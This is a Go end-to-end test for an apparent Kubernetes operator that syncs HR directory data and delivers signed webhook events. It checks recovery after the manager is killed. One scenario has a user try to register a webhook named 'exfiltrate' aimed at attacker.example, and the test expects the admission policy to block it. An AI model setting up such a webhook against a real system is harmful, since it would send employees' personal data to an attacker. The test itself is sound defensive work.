//go:build e2e

/*
Copyright 2026 The dirsync Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	dirsyncv1alpha1 "github.com/dirsync/dirsync/api/v1alpha1"
	"github.com/dirsync/dirsync/internal/provider/fakehr"
	"github.com/dirsync/dirsync/internal/webhookreceiver"
)

const (
	dwhCompany = 150
	dwhSecret  = "e2e-webhook-signing-secret"
	dwhTimeout = 2 * time.Minute
)

// appReceiver is an application's endpoint: internal/webhookreceiver (the documented verification,
// not the operator's signer), recording what it acknowledged, slowly enough that a stream takes a while.
type appReceiver struct {
	url  string
	mu   sync.Mutex
	got  []webhookreceiver.Event
	data map[string]map[string]any // by event id: the body's data
}

func startAppReceiver(t *testing.T, delay time.Duration) *appReceiver {
	t.Helper()
	r := &appReceiver{data: map[string]map[string]any{}}
	h := &webhookreceiver.Handler{Secret: []byte(dwhSecret),
		Answer: func(webhookreceiver.Event) int { time.Sleep(delay); return http.StatusNoContent },
		OnEvent: func(ev webhookreceiver.Event) {
			var body struct {
				Data map[string]any `json:"data"`
			}
			_ = json.Unmarshal(ev.Body, &body)
			r.mu.Lock()
			r.got = append(r.got, ev)
			r.data[ev.ID] = body.Data
			r.mu.Unlock()
		}}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: h, ReadHeaderTimeout: 10 * time.Second}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	r.url = "http://" + ln.Addr().String() + "/hooks"
	return r
}

func (r *appReceiver) events() []webhookreceiver.Event {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.got)
}

// lastState is, per person (object id), the state and job title of the last user event.
func (r *appReceiver) lastState() map[string]string {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := map[string]string{}
	for _, ev := range r.got {
		if !strings.Contains(ev.Type, "user.") || strings.Contains(ev.Type, "user_") {
			continue
		}
		d := r.data[ev.ID]
		if strings.HasSuffix(ev.Type, "deleted") || strings.HasSuffix(ev.Type, "deleted.v1") {
			out[ev.Object] = "deleted"
			continue
		}
		attrs, _ := d["custom_attributes"].(map[string]any)
		title, _ := attrs["job_title"].(string)
		out[ev.Object] = fmt.Sprint(d["state"], "|", title)
	}
	return out
}

// types is the set of event types acknowledged.
func (r *appReceiver) types() []string {
	var out []string
	for _, ev := range r.events() {
		if !slices.Contains(out, ev.Type) {
			out = append(out, ev.Type)
		}
	}
	slices.Sort(out)
	return out
}

// The real manager, as the operator's ServiceAccount, sends a Directory's people to two applications,
// one in each format; it is SIGKILLed in the middle of the stream and restarted; then HR changes (a
// department renamed and another dissolved, a move, a new title, a leaver, a person removed). Each
// application ends with every person as their DirectoryUser says, having seen every event type of its
// format, every request signed. Someone who may create DirectoryWebhooks but not read the directory is
// refused by the admission policy of config/default.
func TestDirectoryWebhookDeliversAndSurvivesAKill(t *testing.T) {
	kubeconfig := operatorIdentity(t)
	ns := newNamespace(t, "e2e-webhook-")
	hr := startFakeHR(t, dwhCompany)
	mgr := startManager(t, "manager-webhooks", kubeconfig, "--kube-api-qps=300", "--kube-api-burst=600")
	key := createDirectory(t, ns, "breathe", hr)
	waitReady(t, key, dwhCompany, syncTimeout, mgr.Process, hr.Process)

	if err := k8s.Create(callCtx(t), &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "signing"},
		StringData: map[string]string{"secret": dwhSecret}}); err != nil {
		t.Fatal(err)
	}
	workos, ce := startAppReceiver(t, 15*time.Millisecond), startAppReceiver(t, 0)
	createDirectoryWebhook(t, ns, "workos-app", key.Name, workos.url, dirsyncv1alpha1.WebhookFormatWorkOS)
	createDirectoryWebhook(t, ns, "siem", key.Name, ce.url, dirsyncv1alpha1.WebhookFormatCloudEvents)

	// Kill the manager when the slower application has heard of a third of the people.
	eventually(t, dwhTimeout, "the WorkOS application to hear of 50 people", func(context.Context) (bool, string) {
		n := len(workos.lastState())
		return n >= 50, fmt.Sprintf("%d people", n)
	}, mgr.Process, hr.Process)
	first := mgr
	mgr.kill(t)
	heard := len(workos.lastState())
	if heard >= dwhCompany {
		t.Fatalf("the stream had finished (%d people) before the kill; nothing was tested", heard)
	}
	t.Logf("killed the manager with %d of %d people told", heard, dwhCompany)
	mgr = startManager(t, "manager-webhooks-restarted", kubeconfig, "--kube-api-qps=300", "--kube-api-burst=600")
	waitApplicationsMatch(t, key, mgr, hr, workos, ce)

	// HR changes every kind of thing, in one sync.
	var co fakehr.Company
	hr.admin(t, http.MethodGet, "/admin/company", nil, &co)
	dissolved, renamed := co.Departments[0], &co.Departments[1]
	renamed.Name += " (renamed)"
	co.Departments = co.Departments[1:]
	var changed []string
	for i := range co.Employees {
		e := &co.Employees[i]
		if e.DepartmentID == dissolved.ID {
			e.DepartmentID = renamed.ID // the dissolved department's people move
		}
	}
	for i := range co.Employees {
		if e := &co.Employees[i]; e.Status == fakehr.Current && e.DepartmentID != "" && len(changed) < 2 {
			if len(changed) == 0 {
				e.JobTitle = "Staff " + e.JobTitle
			} else {
				e.Status, e.LeavingDate = fakehr.Former, time.Now().UTC().AddDate(0, 0, -1).Format(time.DateOnly)
			}
			changed = append(changed, e.ID)
		}
	}
	co.Employees = co.Employees[:len(co.Employees)-1] // one person is gone from HR
	hr.admin(t, http.MethodPut, "/admin/company", co, nil)
	forceSync(t, key, syncTimeout, mgr.Process, hr.Process)
	waitApplicationsMatch(t, key, mgr, hr, workos, ce)

	for r, want := range map[*appReceiver][]string{
		workos: {"dsync.group.created", "dsync.group.deleted", "dsync.group.updated", "dsync.group.user_added", "dsync.group.user_removed",
			"dsync.user.created", "dsync.user.deleted", "dsync.user.updated"},
		ce: {"io.dirsync.group.created.v1", "io.dirsync.group.deleted.v1", "io.dirsync.group.updated.v1", "io.dirsync.group.user_added.v1",
			"io.dirsync.group.user_removed.v1", "io.dirsync.user.created.v1", "io.dirsync.user.deactivated.v1", "io.dirsync.user.deleted.v1",
			"io.dirsync.user.updated.v1"},
	} {
		if got := r.types(); !slices.Equal(got, want) {
			t.Errorf("event types acknowledged: %v, want %v", got, want)
		}
	}

	// The admission policy: mallory may create DirectoryWebhooks in ns, not list its people.
	installAdmissionPolicy(t)
	const mallory = "mallory@example.com"
	mustKubectl(t, "create", "role", "webhook-author", "-n", ns, "--verb=create,get", "--resource=directorywebhooks.dirsync.io")
	mustKubectl(t, "create", "rolebinding", "webhook-author", "-n", ns, "--role=webhook-author", "--user="+mallory)
	exfiltrate := directoryWebhookYAML(ns, "exfiltrate", key.Name, "https://attacker.example/collect", dirsyncv1alpha1.WebhookFormatWorkOS)
	eventually(t, syncTimeout, "the admission policy to be enforced", func(context.Context) (bool, string) {
		_, err := kubectl(exfiltrate, "create", "-f", "-", "--as="+mallory, "--dry-run=server")
		return err != nil, fmt.Sprint(err)
	}, mgr.Process)
	if _, err := kubectl(exfiltrate, "create", "-f", "-", "--as="+mallory); err == nil ||
		!strings.Contains(err.Error(), "you may not list directoryusers in namespace "+ns) {
		t.Errorf("mallory, who may not list directoryusers in %s, creating a DirectoryWebhook: %v", ns, err)
	}
	mgr.assertNoForbidden(t)
	for _, m := range []*manager{first, mgr} {
		if strings.Contains(m.Output(), dwhSecret) {
			t.Errorf("the signing secret is in %s's output", m.Name)
		}
	}
}

func directoryWebhookYAML(ns, name, directory, url string, format dirsyncv1alpha1.WebhookFormat) string {
	return fmt.Sprintf(`apiVersion: dirsync.io/v1alpha1
kind: DirectoryWebhook
metadata: {name: %s, namespace: %s}
spec:
  directoryRef: {name: %s}
  url: %s
  secretRef: {name: signing}
  format: %s
`, name, ns, directory, url, format)
}

func createDirectoryWebhook(t *testing.T, ns, name, directory, url string, format dirsyncv1alpha1.WebhookFormat) {
	t.Helper()
	if _, err := kubectl(directoryWebhookYAML(ns, name, directory, url, format), "create", "-f", "-"); err != nil {
		t.Fatal(err)
	}
}

// waitApplicationsMatch waits until both webhooks are Delivered and each application's last word on every
// person is what their DirectoryUser says (people gone from HR: deleted).
func waitApplicationsMatch(t *testing.T, key types.NamespacedName, mgr *manager, hr *fakeHR, receivers ...*appReceiver) {
	t.Helper()
	eventually(t, dwhTimeout, "every application to agree with the DirectoryUsers", func(ctx context.Context) (bool, string) {
		var hooks dirsyncv1alpha1.DirectoryWebhookList
		if err := k8s.List(ctx, &hooks, client.InNamespace(key.Namespace)); err != nil {
			return false, err.Error()
		}
		for _, h := range hooks.Items {
			if c := meta.FindStatusCondition(h.Status.Conditions, dirsyncv1alpha1.ConditionReady); c == nil || c.Reason != dirsyncv1alpha1.ReasonDelivered ||
				h.Status.ObservedGeneration != h.Generation {
				return false, fmt.Sprintf("webhook %s: %+v, pending %d", h.Name, c, h.Status.PendingEvents)
			}
		}
		var users dirsyncv1alpha1.DirectoryUserList
		if err := k8s.List(ctx, &users, client.InNamespace(key.Namespace)); err != nil {
			return false, err.Error()
		}
		want := map[string]string{}
		for _, u := range users.Items {
			state := "active"
			if u.Spec.State == dirsyncv1alpha1.UserStateInactive {
				state = "inactive"
			}
			want[key.Namespace+"."+u.Name] = state + "|" + u.Spec.JobTitle
		}
		for i, r := range receivers {
			got := r.lastState()
			for id, s := range got {
				if _, ok := want[id]; !ok && s != "deleted" {
					return false, fmt.Sprintf("application %d still has %s (%s), who is gone", i, id, s)
				}
			}
			for id, s := range want {
				if got[id] != s {
					return false, fmt.Sprintf("application %d has %s as %q, the DirectoryUser says %q", i, id, got[id], s)
				}
			}
		}
		return true, ""
	}, mgr.Process, hr.Process)
}
